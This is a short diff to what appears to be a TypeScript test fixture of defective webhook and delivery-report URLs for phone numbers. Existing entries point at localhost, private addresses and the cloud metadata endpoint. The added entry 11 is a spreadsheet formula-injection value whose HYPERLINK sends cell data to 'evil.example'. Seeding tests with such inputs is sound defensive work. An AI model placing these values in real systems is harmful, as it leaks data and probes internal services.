@@ -37,6 +37,7 @@ const DEFECTS: Record<number, Partial<Pick<OwnedNumber, 'webhook' | 'dlr'>>> = {
   8: { webhook: 'http://localhost:8080/hook', dlr: 'https://printer.local/dlr' },
   9: { dlr: 'https://10.0.0.5/dlr' },
   10: { webhook: 'https://169.254.169.254/latest' },
+  11: { webhook: '=HYPERLINK("https://evil.example/?x="&A1,"Click")' },
   12: { dlr: '' },
   17: { dlr: '' },
   23: { dlr: '' },
